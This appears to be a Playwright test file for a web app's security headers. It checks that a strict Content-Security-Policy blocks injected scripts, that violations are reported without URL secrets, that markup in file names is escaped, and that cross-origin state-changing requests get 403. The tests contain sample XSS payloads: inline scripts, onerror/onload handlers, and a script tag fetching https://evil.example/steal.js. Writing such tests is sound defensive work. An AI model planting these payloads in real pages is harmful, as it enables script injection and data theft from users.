// The Content-Security-Policy and the cross-site check, seen from outside:
// the headers a browser gets, what an injected script manages to do (nothing),
// what gets reported and logged, and what a foreign page's request gets.
import { expect, test } from './fixtures/test';
import { expectListed, fileRow, newVaultUser, textFile, uploadViaPicker } from './vault-helpers';

function directives(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name!, values]));
}

test('every page gets a strict policy with a fresh nonce, and Next.js scripts carry it', async ({ page, request }) => {
  const first = (await request.get('/')).headers()['content-security-policy'] ?? '';
  const second = (await request.get('/sign-in')).headers()['content-security-policy'] ?? '';
  const policy = directives(first);
  const nonce = (policy.get('script-src') ?? []).find((v) => v.startsWith("'nonce-"));
  expect(nonce).toMatch(/^'nonce-[A-Za-z0-9+/=]{22,}'$/);
  expect(directives(second).get('script-src')).not.toContain(nonce);
  expect(policy.get('script-src')).toEqual(expect.arrayContaining(["'strict-dynamic'", "'wasm-unsafe-eval'"]));
  for (const directive of ['script-src', 'style-src', 'default-src']) {
    expect(policy.get(directive)).not.toContain("'unsafe-inline'");
    expect(policy.get(directive)).not.toContain("'unsafe-eval'");
  }
  expect(policy.get('object-src')).toEqual(["'none'"]);
  expect(policy.get('base-uri')).toEqual(["'none'"]);
  expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
  expect(policy.get('form-action')).toEqual(["'self'"]);
  const connect = policy.get('connect-src') ?? [];
  expect(connect).toHaveLength(3);
  expect(connect).toEqual(["'self'", expect.stringMatching(/^https?:\/\/[^/]+$/), 'blob:']);

  // The scripts Next.js rendered into the page carry the nonce of the policy it was sent with.
  const response = await page.goto('/');
  const pageNonce = (directives(response?.headers()['content-security-policy'] ?? '').get('script-src') ?? [])[0]?.slice(7, -1);
  const scriptNonces = await page.locator('script').evaluateAll((scripts) => scripts.map((s) => (s as HTMLScriptElement).nonce));
  expect(scriptNonces.length).toBeGreaterThan(0);
  expect(new Set(scriptNonces)).toEqual(new Set([pageNonce]));
  // API answers are JSON: they may load nothing at all.
  expect((await request.get('/api/health')).headers()['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
});

test('markup injected into a page runs nothing, is reported, and the report keeps no fragment or query', async ({ page, csp }) => {
  // A stored XSS as the browser would meet it: the app's real page and real
  // policy, with attacker markup spliced into the HTML the server sent.
  await page.route('**/sign-in?probe=*', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('<body', [
      '<script>window.__pwned = "inline"</script>',
      '<script src="https://evil.example/steal.js"></script>',
      '<img alt="" src="/does-not-exist.png" onerror="window.__pwned = \'handler\'">',
      '<body',
    ].join(''));
    await route.fulfill({ response, body: html });
  });
  await page.goto('/sign-in?probe=QUERY-SECRET#FRAGMENT-SECRET');
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
  // The three are refused by the browser and reported by the page...
  await expect.poll(() => csp.console().filter((line) => line.startsWith('[csp-violation] enforce script-src')).length).toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  // ...and the report endpoint logged them, with paths and origins only.
  await expect.poll(() => csp.reports().length, { timeout: 15_000 }).toBeGreaterThanOrEqual(3);
  await page.unrouteAll({ behavior: 'wait' });
  const { reports } = csp.take();
  expect(reports.map((r) => r.blocked).sort()).toEqual(expect.arrayContaining(['https://evil.example', 'inline']));
  for (const report of reports) {
    expect(report).toMatchObject({ directive: expect.stringMatching(/^script-src/), documentPath: '/sign-in', disposition: 'enforce' });
    expect(JSON.stringify(report)).not.toMatch(/QUERY-SECRET|FRAGMENT-SECRET|__pwned|steal\.js/);
  }
});

test('a file name made of markup is shown as text and runs nothing', async ({ page, csp }) => {
  await newVaultUser(page, 'csp-name');
  const name = '<img src=x onerror="window.__pwned=1"><svg onload=window.__pwned=2>.txt';
  await uploadViaPicker(page, [textFile(name, 'hello')]);
  await expectListed(page, [name]);
  await expect(fileRow(page, name).getByTestId('file-name')).toHaveText(name);
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(csp.console()).toEqual([]);
});

test('a state-changing request from another origin, a null origin or a cross-site fetch gets 403 JSON', async ({ page }) => {
  await newVaultUser(page, 'csrf');
  const api = page.request; // carries the signed-in browser's cookies
  const attempts = [
    { method: 'POST', path: '/api/files', data: {} },
    { method: 'DELETE', path: '/api/files/00000000-0000-4000-8000-000000000000' },
    { method: 'PUT', path: '/api/contacts', data: {} },
  ] as const;
  const foreign: Array<Record<string, string>> = [
    { origin: 'http://evil.example' },
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site' },
    { origin: 'http://localhost:1', 'sec-fetch-site': 'same-site' },
  ];
  for (const attempt of attempts) {
    for (const headers of foreign) {
      const response = await api.fetch(attempt.path, { method: attempt.method, headers, ...('data' in attempt ? { data: attempt.data } : {}) });
      expect(response.status(), `${attempt.method} ${attempt.path} ${JSON.stringify(headers)}`).toBe(403);
      expect(await response.json()).toEqual({ error: { code: 'forbidden', message: expect.stringContaining('refused') } });
    }
  }
  // The same session from the app's own origin is served (here: validation, not a refusal).
  const own = await api.fetch('/api/contacts', { method: 'PUT', headers: { origin: new URL(page.url()).origin, 'sec-fetch-site': 'same-origin' }, data: {} });
  expect(own.status()).toBe(400);
  // Reads are not state-changing: a foreign Origin on GET is answered.
  expect((await api.get('/api/usage', { headers: { origin: 'http://evil.example' } })).status()).toBe(200);
});
